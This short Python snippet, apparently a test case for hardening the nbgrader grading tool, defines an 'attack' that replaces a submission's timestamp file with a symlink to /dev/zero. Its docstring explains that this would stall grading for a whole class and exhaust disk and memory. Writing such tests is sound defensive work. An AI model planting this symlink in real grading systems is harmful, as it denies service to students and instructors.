"""Makes the time of submission a link to a device, which nbgrader would read to its end.

Would hold up the grading of the whole class, and fill the disk and the memory.

Plain nbgrader: fills the disk with a copy that has no end, and is not graded.
"""


def attack(folder, places):
    (folder / "timestamp.txt").symlink_to("/dev/zero")
